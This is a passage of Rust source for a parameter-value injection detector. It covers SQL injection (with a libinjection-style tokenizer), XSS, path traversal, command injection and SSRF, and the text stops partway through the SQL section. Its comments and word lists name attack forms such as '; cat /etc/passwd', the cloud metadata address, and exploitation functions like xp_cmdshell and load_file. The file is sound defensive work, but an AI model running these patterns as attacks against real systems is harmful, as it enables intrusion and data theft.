//! Injection payloads in one parameter value: SQL injection, XSS, path traversal, OS command
//! injection and SSRF, by tokenizers and fingerprints rather than a regex list. The SQL part
//! follows libinjection (Nick Galbreath): its own tokenizer, folding and a hand-built fingerprint
//! set.
//!
//! [`scan`] caps a raw value (query or form parameter, JSON string leaf, header) at [`MAX_VALUE`]
//! bytes and percent-decodes it once (`+` is a space). SQL is tokenized as if the value sat
//! unquoted, in `'..'` and in `".."`, folded, and its first five token types
//! ([`sqli_fingerprint`]) looked up, with checks that keep short shapes off prose. XSS decodes
//! HTML entities (and a second percent level if markup is still encoded) and looks at tags,
//! attributes, script URL schemes, CSS `expression(` and JS sinks. Path traversal decodes a second
//! level, folds `\` and overlong UTF-8, and walks segments: a `..` that stays inside the start
//! (`a/../b`) is not an attack; sensitive absolute paths, `file:`, `<!--#include` and a NUL in a
//! path are. Command injection needs a shell separator or substitution, a known command and that
//! command's argument shape (`; cat /etc/passwd`, not `; cat food`); `${IFS}` and `<!--#exec`
//! count alone. SSRF needs a URL or host naming loopback, link-local or cloud metadata, a private
//! range (also in decimal, octal or hex) or a `gopher:`/`dict:`/`file:` scheme. Stack buffers, no
//! heap allocation unless something is found, bounded work, deterministic.
//!
//! Not detected: double encoding for SQL and commands, JS-escaped (`\u003c`) markup,
//! NoSQL/LDAP/XPath/template injection, CRLF injection, hosts that only DNS resolves to private
//! addresses (except `nip.io`-style names), bare private IPv4 literals without a port or path
//! (versions look the same), and markdown-style backtick spans that follow a space.

use std::ops::Range;
use std::sync::OnceLock;

use memchr::{memchr, memchr_iter, memmem};

/// Longest value looked at; the rest is ignored.
pub const MAX_VALUE: usize = 4096;
/// Raw SQL tokens read at most per quote context.
const MAX_SQL_TOKENS: u32 = 256;
/// Longest evidence string, in bytes (before lossy UTF-8 conversion).
const MAX_EVIDENCE: usize = 48;
/// Longest command argument read.
const MAX_ARG: usize = 256;
/// Bytes of attributes read after one tag name at most.
const MAX_TAG_SCAN: usize = 1024;

/// An injection class.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, PartialOrd, Ord)]
#[repr(u8)]
pub enum Attack {
    Sqli,
    Xss,
    PathTraversal,
    CommandInjection,
    Ssrf,
}

impl Attack {
    /// Every class, in the order [`scan`] reports them.
    pub const ALL: [Attack; 5] = [
        Attack::Sqli,
        Attack::Xss,
        Attack::PathTraversal,
        Attack::CommandInjection,
        Attack::Ssrf,
    ];

    /// Stable lower-case name.
    pub fn as_str(self) -> &'static str {
        match self {
            Attack::Sqli => "sqli",
            Attack::Xss => "xss",
            Attack::PathTraversal => "path_traversal",
            Attack::CommandInjection => "command_injection",
            Attack::Ssrf => "ssrf",
        }
    }

    /// The OWASP category the class is reported under.
    pub fn owasp(self) -> &'static str {
        match self {
            Attack::Ssrf => "API7:2023 Server Side Request Forgery",
            _ => "A03:2021 Injection",
        }
    }
}

/// One class found in a value.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Detection {
    pub attack: Attack,
    /// The evidence: the SQL fingerprint (`s&sos`) or the matched construct (`<script`, `../..`,
    /// `; cat`, `169.254.169.254`; lower-cased when taken from the value), at most 48 bytes.
    pub evidence: String,
    /// Byte range that triggered, in the decoded view the class looked at (never longer than the
    /// input, so always within `0..value.len()`).
    pub range: Range<usize>,
}

/// The quote a value is assumed to sit in inside the SQL statement.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub enum Quote {
    None,
    Single,
    Double,
}

/// Scans one parameter value (raw, as on the wire) and appends at most one [`Detection`] per
/// class, in [`Attack::ALL`] order.
pub fn scan(value: &[u8], out: &mut Vec<Detection>) {
    let raw = &value[..value.len().min(MAX_VALUE)];
    if raw.is_empty() {
        return;
    }
    // Buffers are filled only when a view needs decoding; most values are looked at in place.
    let mut buf1;
    let d1: &[u8] = if raw.iter().any(|&c| c == b'%' || c == b'+') {
        buf1 = [0u8; MAX_VALUE];
        buf1[..raw.len()].copy_from_slice(raw);
        let n = percent_decode(&mut buf1[..raw.len()], true);
        &buf1[..n]
    } else {
        raw
    };
    let p = Presence::of(d1);

    if p.sql_trigger {
        if let Some((fp, range)) = detect_sqli(d1, &p) {
            out.push(Detection {
                attack: Attack::Sqli,
                evidence: fp,
                range,
            });
        }
    }
    if p.amp || p.lt || p.colon || p.eq || p.paren || p.backtick || p.percent {
        // HTML entities, and a second percent-decoding when markup characters are still
        // encoded (`%253Cscript`, `%2522%2Bstyle%253D`).
        let twice = p.percent && double_encoded_markup(d1);
        let mut work;
        let dx: &[u8] = if twice || p.amp {
            work = [0u8; MAX_VALUE];
            let mut n = d1.len();
            work[..n].copy_from_slice(d1);
            if twice {
                n = percent_decode(&mut work[..n], false);
            }
            if memchr(b'&', &work[..n]).is_some() {
                n = entity_decode(&mut work[..n]);
            }
            &work[..n]
        } else {
            d1
        };
        if let Some(h) = detect_xss(dx) {
            out.push(h.into_detection(Attack::Xss, dx));
        }
    }
    if p.dot || p.slash || p.backslash || p.percent || p.nul || p.high || p.lt {
        // A second percent-decoding, `\` as `/`, overlong UTF-8 dots and slashes.
        let mut work;
        let t: &[u8] = if p.percent || p.backslash || p.high {
            work = [0u8; MAX_VALUE];
            let mut n = d1.len();
            work[..n].copy_from_slice(d1);
            if p.percent {
                n = percent_decode(&mut work[..n], false);
            }
            let n = normalize_path(&mut work[..n]);
            &work[..n]
        } else {
            d1
        };
        if let Some(h) = detect_traversal(t) {
            out.push(h.into_detection(Attack::PathTraversal, t));
        }
    }
    if p.shell {
        if let Some(h) = detect_cmd(d1) {
            out.push(h.into_detection(Attack::CommandInjection, d1));
        }
    }
    if p.colon || p.slash || p.dot || p.alpha_l {
        if let Some(h) = detect_ssrf(d1) {
            out.push(h.into_detection(Attack::Ssrf, d1));
        }
    }
}

/// SQL fingerprint of `value` (taken as is, no decoding) in a quote context: the types of its
/// first five folded tokens, e.g. `s&sos` for `1' OR '1'='1` in [`Quote::Single`].
pub fn sqli_fingerprint(value: &[u8], context: Quote) -> String {
    let s = &value[..value.len().min(MAX_VALUE)];
    let fp = fingerprint(s, context);
    String::from_utf8_lossy(fp.kinds()).into_owned()
}

// ------------------------------------------------------------------------------------------
// Shared helpers

/// What one pass over the decoded value saw; decides which classes run.
#[derive(Default)]
struct Presence {
    sql_trigger: bool,
    squote: bool,
    dquote: bool,
    amp: bool,
    lt: bool,
    colon: bool,
    eq: bool,
    paren: bool,
    backtick: bool,
    dot: bool,
    slash: bool,
    backslash: bool,
    percent: bool,
    nul: bool,
    high: bool,
    shell: bool,
    alpha_l: bool,
}

impl Presence {
    fn of(s: &[u8]) -> Presence {
        let mut p = Presence::default();
        for &c in s {
            match c {
                b'\'' => p.squote = true,
                b'"' => p.dquote = true,
                b'&' => p.amp = true,
                b'<' => p.lt = true,
                b':' => p.colon = true,
                b'=' => p.eq = true,
                b'(' => p.paren = true,
                b'`' => p.backtick = true,
                b'.' => p.dot = true,
                b'/' => p.slash = true,
                b'\\' => p.backslash = true,
                b'%' => p.percent = true,
                0 => p.nul = true,
                b'l' | b'L' => p.alpha_l = true,
                0xc0..=0xff => p.high = true,
                _ => {}
            }
            if matches!(
                c,
                b'\''
                    | b'"'
                    | b'`'
                    | b'('
                    | b')'
                    | b';'
                    | b'#'
                    | b'/'
                    | b'*'
                    | b'='
                    | b'<'
                    | b'>'
                    | b'|'
                    | b'&'
                    | b','
                    | b'!'
                    | b'-'
                    | 0..=b' '
            ) {
                p.sql_trigger = true;
            }
            if matches!(
                c,
                b';' | b'|' | b'&' | b'`' | b'$' | b'\n' | b'\r' | b'<' | b' ' | b'/'
            ) {
                p.shell = true;
            }
        }
        p
    }
}

/// A construct found by one of the byte-level detectors.
struct Hit {
    evidence: Evidence,
    range: Range<usize>,
}

enum Evidence {
    /// A fixed label.
    Label(&'static str),
    /// The bytes of the range, lower-cased.
    Span,
}

impl Hit {
    fn named(label: &'static str, range: Range<usize>) -> Hit {
        Hit {
            evidence: Evidence::Label(label),
            range,
        }
    }

    fn at(range: Range<usize>) -> Hit {
        Hit {
            evidence: Evidence::Span,
            range,
        }
    }

    fn label(label: &'static str, range: Range<usize>) -> Option<Hit> {
        Some(Hit::named(label, range))
    }

    fn span(range: Range<usize>) -> Option<Hit> {
        Some(Hit::at(range))
    }

    fn into_detection(self, attack: Attack, view: &[u8]) -> Detection {
        let end = self.range.end.min(view.len());
        let start = self.range.start.min(end);
        let evidence = match self.evidence {
            Evidence::Label(l) => l.to_string(),
            Evidence::Span => evidence_of(&view[start..end]),
        };
        Detection {
            attack,
            evidence,
            range: start..end,
        }
    }
}

/// Lower-cased, lossy UTF-8, at most [`MAX_EVIDENCE`] bytes of `b`.
fn evidence_of(b: &[u8]) -> String {
    let b = &b[..b.len().min(MAX_EVIDENCE)];
    String::from_utf8_lossy(b).to_ascii_lowercase()
}

fn hexval(c: u8) -> Option<u8> {
    match c {
        b'0'..=b'9' => Some(c - b'0'),
        b'a'..=b'f' => Some(c - b'a' + 10),
        b'A'..=b'F' => Some(c - b'A' + 10),
        _ => None,
    }
}

/// Writes `cp` as UTF-8 into `dst[o..]` (or `?` when it does not fit or is invalid); returns
/// the new output position.
fn put_char(dst: &mut [u8], mut o: usize, cp: u32) -> usize {
    let mut tmp = [0u8; 4];
    let enc: &[u8] = match char::from_u32(cp) {
        Some(ch) => ch.encode_utf8(&mut tmp).as_bytes(),
        None => b"?",
    };
    let enc = if o + enc.len() <= dst.len() {
        enc
    } else {
        b"?"
    };
    for &b in enc {
        if o < dst.len() {
            dst[o] = b;
            o += 1;
        }
    }
    o
}

/// Percent-decodes `b` in place (also IIS `%uHHHH`; `+` is a space when `plus_space`) and
/// returns the decoded length; the output never outruns the input.
fn percent_decode(b: &mut [u8], plus_space: bool) -> usize {
    let (mut i, mut o) = (0, 0);
    while i < b.len() {
        let c = b[i];
        if c == b'%' {
            if let (Some(h), Some(l)) = (
                b.get(i + 1).and_then(|&x| hexval(x)),
                b.get(i + 2).and_then(|&x| hexval(x)),
            ) {
                b[o] = h << 4 | l;
                o += 1;
                i += 3;
                continue;
            }
            if matches!(b.get(i + 1), Some(b'u' | b'U')) && i + 6 <= b.len() {
                let mut cp = 0u32;
                let mut ok = true;
                for &x in &b[i + 2..i + 6] {
                    match hexval(x) {
                        Some(v) => cp = cp << 4 | u32::from(v),
                        None => ok = false,
                    }
                }
                if ok {
                    let mapped = match cp {
                        0x2215 | 0xff0f => Some(b'/'),
                        0x2216 | 0xff3c => Some(b'\\'),
                        0xff0e => Some(b'.'),
                        0..=0x7f => Some(cp as u8),
                        _ => None,
                    };
                    // Six bytes read, at most three written.
                    o = match mapped {
                        Some(m) => {
                            b[o] = m;
                            o + 1
                        }
                        None => put_char(&mut b[..i + 6], o, cp),
                    };
                    i += 6;
                    continue;
                }
            }
        }
        b[o] = if plus_space && c == b'+' { b' ' } else { c };
        o += 1;
        i += 1;
    }
    o
}

/// Decodes HTML character references in place (numeric, and the named ones that matter for
/// markup and scheme obfuscation, with or without `;`); returns the decoded length. A reference
/// is never shorter than its UTF-8 encoding, so the output never outruns the input.
fn entity_decode(b: &mut [u8]) -> usize {
    let (mut i, mut o) = (0, 0);
    while i < b.len() {
        let c = b[i];
        if c == b'&' {
            if let Some((cp, len)) = parse_entity(&b[i..]) {
                o = if cp == 0xa0 {
                    b[o] = b' ';
                    o + 1
                } else {
                    put_char(&mut b[..i + len], o, cp)
                };
                i += len;
                continue;
            }
        }
        b[o] = c;
        o += 1;
        i += 1;
    }
    o
}

/// One character reference at the start of `s` (which starts with `&`): its code point and
/// length.
fn parse_entity(s: &[u8]) -> Option<(u32, usize)> {
    if s.get(1) == Some(&b'#') {
        let hex = matches!(s.get(2), Some(b'x' | b'X'));
        let mut i = if hex { 3 } else { 2 };
        let start = i;
        let mut cp: u32 = 0;
        while let Some(&b) = s.get(i) {
            let d = if hex {
                hexval(b)
            } else if b.is_ascii_digit() {
                Some(b - b'0')
            } else {
                None
            };
            let Some(d) = d else { break };
            cp = cp
                .saturating_mul(if hex { 16 } else { 10 })
                .saturating_add(u32::from(d));
            i += 1;
        }
        if i == start {
            return None;
        }
        if s.get(i) == Some(&b';') {
            i += 1;
        }
        let cp = if cp > 0x10ffff { u32::from(b'?') } else { cp };
        return Some((cp, i));
    }
    let mut i = 1;
    while i < s.len() && i <= 9 && s[i].is_ascii_alphabetic() {
        i += 1;
    }
    let name = &s[1..i];
    const NAMED: &[(&[u8], u8)] = &[
        (b"lt", b'<'),
        (b"gt", b'>'),
        (b"quot", b'"'),
        (b"apos", b'\''),
        (b"amp", b'&'),
        (b"colon", b':'),
        (b"tab", b'\t'),
        (b"newline", b'\n'),
        (b"lpar", b'('),
        (b"rpar", b')'),
        (b"sol", b'/'),
        (b"bsol", b'\\'),
        (b"num", b'#'),
        (b"semi", b';'),
        (b"comma", b','),
        (b"period", b'.'),
        (b"excl", b'!'),
        (b"equals", b'='),
        (b"grave", b'`'),
        (b"lsqb", b'['),
        (b"rsqb", b']'),
        (b"lbrace", b'{'),
        (b"rbrace", b'}'),
        (b"nbsp", 0xa0),
    ];
    let &(_, ch) = NAMED.iter().find(|(n, _)| n.eq_ignore_ascii_case(name))?;
    if s.get(i) == Some(&b';') {
        i += 1;
    }
    Some((u32::from(ch), i))
}

/// `s` still holds a percent-escape of `<`, `>`, `"`, `'`, `(` or `:`.
fn double_encoded_markup(s: &[u8]) -> bool {
    memchr_iter(b'%', s).any(|i| {
        let (Some(&h), Some(&l)) = (s.get(i + 1), s.get(i + 2)) else {
            return false;
        };
        matches!(
            (h, l.to_ascii_lowercase()),
            (b'3', b'c' | b'e' | b'a') | (b'2', b'2' | b'7' | b'8')
        )
    })
}

fn starts_with_ci(s: &[u8], at: usize, pat: &[u8]) -> bool {
    s.len() >= at + pat.len() && s[at..at + pat.len()].eq_ignore_ascii_case(pat)
}

/// First case-insensitive occurrence of `pat` (lower-case ASCII, non-empty) in `s` from `from`.
fn find_ci(s: &[u8], from: usize, pat: &[u8]) -> Option<usize> {
    let first = pat[0];
    let upper = first.to_ascii_uppercase();
    let mut i = from;
    while i + pat.len() <= s.len() {
        let off = memchr::memchr2(first, upper, &s[i..=s.len() - pat.len()])?;
        let at = i + off;
        if s[at..at + pat.len()].eq_ignore_ascii_case(pat) {
            return Some(at);
        }
        i = at + 1;
    }
    None
}

fn is_word_byte(c: u8) -> bool {
    c.is_ascii_alphanumeric() || c == b'_'
}

/// A space-separated list of lower-case words, sorted once on first use and searched ignoring
/// ASCII case.
struct WordList {
    words: &'static str,
    sorted: OnceLock<Vec<&'static [u8]>>,
}

impl WordList {
    const fn new(words: &'static str) -> WordList {
        WordList {
            words,
            sorted: OnceLock::new(),
        }
    }

    fn words(&self) -> &[&'static [u8]] {
        self.sorted.get_or_init(|| {
            let mut v: Vec<&[u8]> = self
                .words
                .split_ascii_whitespace()
                .map(str::as_bytes)
                .collect();
            v.sort_unstable();
            v
        })
    }

    fn contains(&self, w: &[u8]) -> bool {
        self.words()
            .binary_search_by(|x| x.iter().copied().cmp(w.iter().map(u8::to_ascii_lowercase)))
            .is_ok()
    }
}

// ------------------------------------------------------------------------------------------
// SQL injection: tokenizer

const T_STRING: u8 = b's';
const T_NUMBER: u8 = b'1';
const T_BAREWORD: u8 = b'n';
const T_VARIABLE: u8 = b'v';
const T_KEYWORD: u8 = b'k';
const T_UNION: u8 = b'U';
const T_EXPRESSION: u8 = b'E';
const T_TSQL: u8 = b'T';
const T_GROUP: u8 = b'B';
const T_FUNCTION: u8 = b'f';
const T_OPERATOR: u8 = b'o';
const T_LOGIC: u8 = b'&';
const T_COMMENT: u8 = b'c';
const T_LPAREN: u8 = b'(';
const T_RPAREN: u8 = b')';
const T_COMMA: u8 = b',';
const T_SEMICOLON: u8 = b';';
const T_UNKNOWN: u8 = b'?';

/// Unary operator (`+ - ! ~ NOT`).
const F_UNARY: u8 = 1;
/// Comparison operator, or an operand folded from a comparison (`1=1`).
const F_CMP: u8 = 2;
/// A string whose closing quote was seen.
const F_CLOSED: u8 = 4;
/// A number, or an operand folded from an expression with a number in it.
const F_NUM: u8 = 8;

/// Keywords that take part in two-word phrases or need their identity later.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
enum Kw {
    #[default]
    None,
    Union,
    All,
    Distinct,
    Select,
    Top,
    Group,
    Order,
    By,
    Not,
    Like,
    In,
    Is,
    Between,
    Regexp,
    Exists,
    Null,
    Waitfor,
    Delay,
    Into,
    Outfile,
    Sounds,
    Join,
    JoinSide,
    Boolean,
    Mode,
    InBoolean,
    InBooleanMode,
    Where,
    As,
}

#[derive(Clone, Copy, Debug, Default)]
struct Tok {
    kind: u8,
    flags: u8,
    kw: Kw,
    start: usize,
    end: usize,
}

impl Tok {
    fn new(kind: u8, start: usize, end: usize) -> Tok {
        Tok {
            kind,
            flags: 0,
            kw: Kw::None,
            start,
            end,
        }
    }

    fn with_flags(mut self, flags: u8) -> Tok {
        self.flags |= flags;
        self
    }

    fn unary(&self) -> bool {
        self.flags & F_UNARY != 0
    }
}

fn is_sql_ws(c: u8) -> bool {
    c <= b' ' || c == 0x7f
}

fn is_sql_word(c: u8) -> bool {
    c.is_ascii_alphanumeric() || c == b'_' || c == b'$' || c == b'.' || c >= 0x80
}

/// End (exclusive) of a string body starting at `from` with delimiter `q`, and whether the
/// closing quote was found. A quote after an odd run of backslashes, or doubled, does not close.
fn string_end(s: &[u8], from: usize, q: u8) -> (usize, bool) {
    let mut i = from;
    while i < s.len() {
        let Some(off) = memchr(q, &s[i..]) else { break };
        let j = i + off;
        let mut k = j;
        while k > from && s[k - 1] == b'\\' {
            k -= 1;
        }
        if (j - k) % 2 == 1 {
            i = j + 1;
            continue;
        }
        if s.get(j + 1) == Some(&q) {
            i = j + 2;
            continue;
        }
        return (j + 1, true);
    }
    (s.len(), false)
}

struct Lexer<'a> {
    s: &'a [u8],
    pos: usize,
    delim: u8,
    started: bool,
    mysql_comment: bool,
    budget: u32,
}

impl<'a> Lexer<'a> {
    fn new(s: &'a [u8], context: Quote) -> Lexer<'a> {
        Lexer {
            s,
            pos: 0,
            delim: match context {
                Quote::None => 0,
                Quote::Single => b'\'',
                Quote::Double => b'"',
            },
            started: false,
            mysql_comment: false,
            budget: MAX_SQL_TOKENS,
        }
    }

    fn peek_non_ws(&self, mut i: usize) -> Option<u8> {
        while i < self.s.len() && is_sql_ws(self.s[i]) {
            i += 1;
        }
        self.s.get(i).copied()
    }

    fn next_token(&mut self) -> Option<Tok> {
        let s = self.s;
        if !self.started {
            self.started = true;
            if self.delim != 0 {
                let (end, closed) = string_end(s, 0, self.delim);
                self.pos = end;
                let flags = if closed { F_CLOSED } else { 0 };
                return Some(Tok::new(T_STRING, 0, end).with_flags(flags));
            }
        }
        loop {
            while self.pos < s.len() && is_sql_ws(s[self.pos]) {
                self.pos += 1;
            }
            if self.pos >= s.len() || self.budget == 0 {
                return None;
            }
            self.budget -= 1;
            let start = self.pos;
            let c = s[start];
            let next = s.get(start + 1).copied().unwrap_or(0);
            let op = |len: usize, flags: u8| Some((T_OPERATOR, len, flags));
            // (kind, length, flags); None = skipped, read on.
            let simple: Option<(u8, usize, u8)> = match c {
                b'\'' | b'"' => {
                    let (end, closed) = string_end(s, start + 1, c);
                    let flags = if closed { F_CLOSED } else { 0 };
                    Some((T_STRING, end - start, flags))
                }
                b'`' => {
                    let end = memchr(b'`', &s[start + 1..]).map_or(s.len(), |o| start + 2 + o);
                    Some((T_BAREWORD, end - start, 0))
                }
                b'[' => {
                    let end = memchr(b']', &s[start + 1..]).map_or(s.len(), |o| start + 2 + o);
                    Some((T_BAREWORD, end - start, 0))
                }
                b'0'..=b'9' => Some((T_NUMBER, number_len(s, start), 0)),
                b'.' if next.is_ascii_digit() => Some((T_NUMBER, number_len(s, start), 0)),
                b'@' => {
                    let mut i = start + 1;
                    if s.get(i) == Some(&b'@') {
                        i += 1;
                    }
                    while i < s.len() && is_sql_word(s[i]) {
                        i += 1;
                    }
                    if i == start + 1 {
                        Some((T_UNKNOWN, 1, 0))
                    } else {
                        Some((T_VARIABLE, i - start, 0))
                    }
                }
                b'#' => Some((T_COMMENT, line_end(s, start) - start, 0)),
                b'-' if next == b'-' => Some((T_COMMENT, line_end(s, start) - start, 0)),
                b'-' | b'+' => op(1, F_UNARY),
                b'/' if next == b'*' => {
                    if s.get(start + 2) == Some(&b'!') {
                        // MySQL executable comment: its body is SQL.
                        let mut i = start + 3;
                        while i < s.len() && i < start + 8 && s[i].is_ascii_digit() {
                            i += 1;
                        }
                        self.pos = i;
                        self.mysql_comment = true;
                        None
                    } else {
                        let end =
                            memmem::find(&s[start + 2..], b"*/").map_or(s.len(), |o| start + 4 + o);
                        Some((T_COMMENT, end - start, 0))
                    }
                }
                b'*' if next == b'/' && self.mysql_comment => {
                    self.mysql_comment = false;
                    self.pos = start + 2;
                    None
                }
                b'/' | b'*' | b'%' | b'^' => op(1, 0),
                b'~' => op(1, F_UNARY),
                b'(' => Some((T_LPAREN, 1, 0)),
                b')' => Some((T_RPAREN, 1, 0)),
                b',' => Some((T_COMMA, 1, 0)),
                b';' => Some((T_SEMICOLON, 1, 0)),
                b'=' => op(if next == b'=' { 2 } else { 1 }, F_CMP),
                b'<' => {
                    if next == b'=' && s.get(start + 2) == Some(&b'>') {
                        op(3, F_CMP)
                    } else if matches!(next, b'=' | b'>') {
                        op(2, F_CMP)
                    } else if next == b'<' {
                        op(2, 0)
                    } else {
                        op(1, F_CMP)
                    }
                }
                b'>' => match next {
                    b'=' => op(2, F_CMP),
                    b'>' => op(2, 0),
                    _ => op(1, F_CMP),
                },
                b'!' => match next {
                    b'=' | b'<' | b'>' => op(2, F_CMP),
                    _ => op(1, F_UNARY),
                },
                b'|' if next == b'|' => Some((T_LOGIC, 2, 0)),
                b'&' if next == b'&' => Some((T_LOGIC, 2, 0)),
                b'|' | b'&' => op(1, 0),
                b':' if matches!(next, b':' | b'=') => op(2, 0),
                b'\\' if next == b'N' => Some((T_NUMBER, 2, 0)),
                b'a'..=b'z' | b'A'..=b'Z' | b'_' | b'$' | 0x80..=0xff => {
                    return Some(self.word(start));
                }
                _ => Some((T_UNKNOWN, 1, 0)),
            };
            if let Some((kind, len, flags)) = simple {
                let flags = if kind == T_NUMBER {
                    flags | F_NUM
                } else {
                    flags
                };
                self.pos = start + len.max(1);
                return Some(Tok::new(kind, start, self.pos).with_flags(flags));
            }
        }
    }

    fn word(&mut self, start: usize) -> Tok {
        let s = self.s;
        let mut i = start + 1;
        while i < s.len() && is_sql_word(s[i]) {
            i += 1;
        }
        let w = &s[start..i];
        // Charset introducers and prefixed literals: N'..', X'..', _utf8'..'.
        if let Some(&q @ (b'\'' | b'"')) = s.get(i) {
            let prefix = (w.len() == 1 && matches!(w[0] | 0x20, b'n' | b'x' | b'b' | b'e'))
                || (w[0] == b'_' && w.len() > 1);
            if prefix {
                let (end, closed) = string_end(s, i + 1, q);
                self.pos = end;
                let flags = if closed { F_CLOSED } else { 0 };
                return Tok::new(T_STRING, start, end).with_flags(flags);
            }
        }
        self.pos = i;
        let mut up = [0u8; 32];
        if w.len() > up.len() {
            return Tok::new(T_BAREWORD, start, i);
        }
        for (d, &c) in up.iter_mut().zip(w) {
            *d = c.to_ascii_uppercase();
        }
        let up = &up[..w.len()];
        let paren_next = self.peek_non_ws(i) == Some(b'(');
        if paren_next && is_sql_function(up) {
            return Tok::new(T_FUNCTION, start, i);
        }
        let (kind, kw, flags) = classify_word(up);
        let (kind, flags) = if kw == Kw::In && paren_next {
            (T_OPERATOR, F_CMP)
        } else {
            (kind, flags)
        };
        Tok {
            kind,
            flags,
            kw,
            start,
            end: i,
        }
    }
}

fn line_end(s: &[u8], from: usize) -> usize {
    memchr::memchr2(b'\n', b'\r', &s[from..]).map_or(s.len(), |o| from + o)
}

fn number_len(s: &[u8], start: usize) -> usize {
    let mut i = start;
    if s[i] == b'0' && matches!(s.get(i + 1), Some(b'x' | b'X' | b'b' | b'B')) {
        let hex = matches!(s[i + 1], b'x' | b'X');
        let mut j = i + 2;
        while j < s.len()
            && (if hex {
                s[j].is_ascii_hexdigit()
            } else {
                matches!(s[j], b'0' | b'1')
            })
        {
            j += 1;
        }
        if j > i + 2 {
            return j - start;
        }
    }
    while i < s.len() && s[i].is_ascii_digit() {
        i += 1;
    }
    if s.get(i) == Some(&b'.') {
        i += 1;
        while i < s.len() && s[i].is_ascii_digit() {
            i += 1;
        }
    }
    if matches!(s.get(i), Some(b'e' | b'E')) {
        let mut j = i + 1;
        if matches!(s.get(j), Some(b'+' | b'-')) {
            j += 1;
        }
        if s.get(j).is_some_and(u8::is_ascii_digit) {
            while j < s.len() && s[j].is_ascii_digit() {
                j += 1;
            }
            i = j;
        }
    }
    (i - start).max(1)
}

/// Names that are functions when followed by `(`.
fn is_sql_function(up: &[u8]) -> bool {
    SQL_FUNCTIONS.contains(up)
}

/// Functions (upper case) that matter in injections: time delays, string building, error-based
/// extraction, system information.
static SQL_FUNCTIONS: WordList = WordList::new(
    "sleep benchmark pg_sleep char chr nchar concat concat_ws group_concat ascii ord substring \
    substr mid left right count version user current_user system_user session_user database \
    schema if iif ifnull isnull nullif coalesce cast convert load_file extractvalue updatexml \
    md5 sha1 sha2 rand floor exp length len upper lower hex unhex bin conv now db_name elt \
    make_set repeat replace reverse lpad rpad instr locate regexp_substring generate_series \
    dbms_pipe.receive_message dbms_lock.sleep utl_inaddr.get_host_address utl_http.request \
    crypt_key randomblob openrowset openquery exists insert json_keys gtid_subset xmltype \
    ctxsys.drithsx.sn sys_context to_char row dbms_utility.sqlid_to_sqlhash",
);

fn classify_word(up: &[u8]) -> (u8, Kw, u8) {
    match up {
        b"UNION" => (T_UNION, Kw::Union, 0),
        b"SELECT" => (T_EXPRESSION, Kw::Select, 0),
        b"INSERT" | b"UPDATE" | b"DELETE" | b"DROP" | b"CREATE" | b"ALTER" | b"TRUNCATE"
        | b"RENAME" | b"GRANT" | b"REVOKE" => (T_EXPRESSION, Kw::None, 0),
        b"EXEC" | b"EXECUTE" | b"DECLARE" | b"SHUTDOWN" | b"XP_CMDSHELL" | b"CALL" => {
            (T_TSQL, Kw::None, 0)
        }
        b"WAITFOR" => (T_TSQL, Kw::Waitfor, 0),
        b"HAVING" | b"LIMIT" | b"PROCEDURE" => (T_GROUP, Kw::None, 0),
        b"GROUP" => (T_BAREWORD, Kw::Group, 0),
        b"ORDER" => (T_BAREWORD, Kw::Order, 0),
        b"BY" => (T_BAREWORD, Kw::By, 0),
        b"DELAY" | b"TIME" => (T_BAREWORD, Kw::Delay, 0),
        b"OUTFILE" | b"DUMPFILE" => (T_KEYWORD, Kw::Outfile, 0),
        b"INTO" => (T_KEYWORD, Kw::Into, 0),
        b"ALL" => (T_KEYWORD, Kw::All, 0),
        b"DISTINCT" => (T_KEYWORD, Kw::Distinct, 0),
        b"TOP" => (T_KEYWORD, Kw::Top, 0),
        b"JOIN" => (T_KEYWORD, Kw::Join, 0),
        b"LEFT" | b"RIGHT" | b"INNER" | b"OUTER" | b"CROSS" | b"FULL" | b"NATURAL" => {
            (T_BAREWORD, Kw::JoinSide, 0)
        }
        b"WHERE" => (T_KEYWORD, Kw::Where, 0),
        b"AS" => (T_KEYWORD, Kw::As, 0),
        b"FROM" | b"VALUES" | b"TABLE" | b"CASE" | b"WHEN" | b"THEN" | b"ELSE" | b"END"
        | b"SET" | b"COLLATE" | b"ESCAPE" => (T_KEYWORD, Kw::None, 0),
        b"AND" | b"OR" | b"XOR" => (T_LOGIC, Kw::None, 0),
        b"NOT" => (T_OPERATOR, Kw::Not, F_UNARY),
        b"LIKE" | b"RLIKE" | b"ILIKE" => (T_OPERATOR, Kw::Like, F_CMP),
        b"REGEXP" => (T_OPERATOR, Kw::Regexp, F_CMP),
        b"IS" => (T_OPERATOR, Kw::Is, F_CMP),
        b"BETWEEN" => (T_OPERATOR, Kw::Between, F_CMP),
        b"SOUNDS" => (T_OPERATOR, Kw::Sounds, 0),
        b"DIV" | b"MOD" => (T_OPERATOR, Kw::None, 0),
        b"IN" => (T_BAREWORD, Kw::In, 0),
        b"BOOLEAN" => (T_BAREWORD, Kw::Boolean, 0),
        b"MODE" => (T_BAREWORD, Kw::Mode, 0),
        b"EXISTS" => (T_BAREWORD, Kw::Exists, 0),
        b"NULL" | b"TRUE" | b"FALSE" => (T_NUMBER, Kw::Null, 0),
        _ => (T_BAREWORD, Kw::None, 0),
    }
}

/// Two-word phrases: `UNION ALL`, `ORDER BY`, `NOT LIKE`, `WAITFOR DELAY`, `INTO OUTFILE`...
fn merge_words(a: &Tok, b: &Tok) -> Option<(u8, Kw, u8)> {
    Some(match (a.kw, b.kw) {
        (Kw::Union, Kw::All | Kw::Distinct) => (T_UNION, Kw::Union, 0),
        (Kw::Select, Kw::All | Kw::Distinct | Kw::Top) => (T_EXPRESSION, Kw::Select, 0),
        (Kw::Group | Kw::Order, Kw::By) => (T_GROUP, Kw::None, 0),
        (Kw::Not, Kw::Like | Kw::In | Kw::Between | Kw::Regexp | Kw::Exists) => {
            (T_OPERATOR, Kw::None, F_CMP)
        }
        (Kw::Is, Kw::Not) => (T_OPERATOR, Kw::None, F_CMP),
        (Kw::Sounds, Kw::Like) => (T_OPERATOR, Kw::None, F_CMP),
        (Kw::Waitfor, Kw::Delay) => (T_TSQL, Kw::None, 0),
        (Kw::Into, Kw::Outfile) => (T_KEYWORD, Kw::Outfile, 0),
        (Kw::JoinSide, Kw::Join) => (T_KEYWORD, Kw::Join, 0),
        (Kw::In, Kw::Boolean) => (T_BAREWORD, Kw::InBoolean, 0),
        (Kw::InBoolean, Kw::Mode) => (T_KEYWORD, Kw::InBooleanMode, 0),
        _ => return None,
    })
}

// ------------------------------------------------------------------------------------------
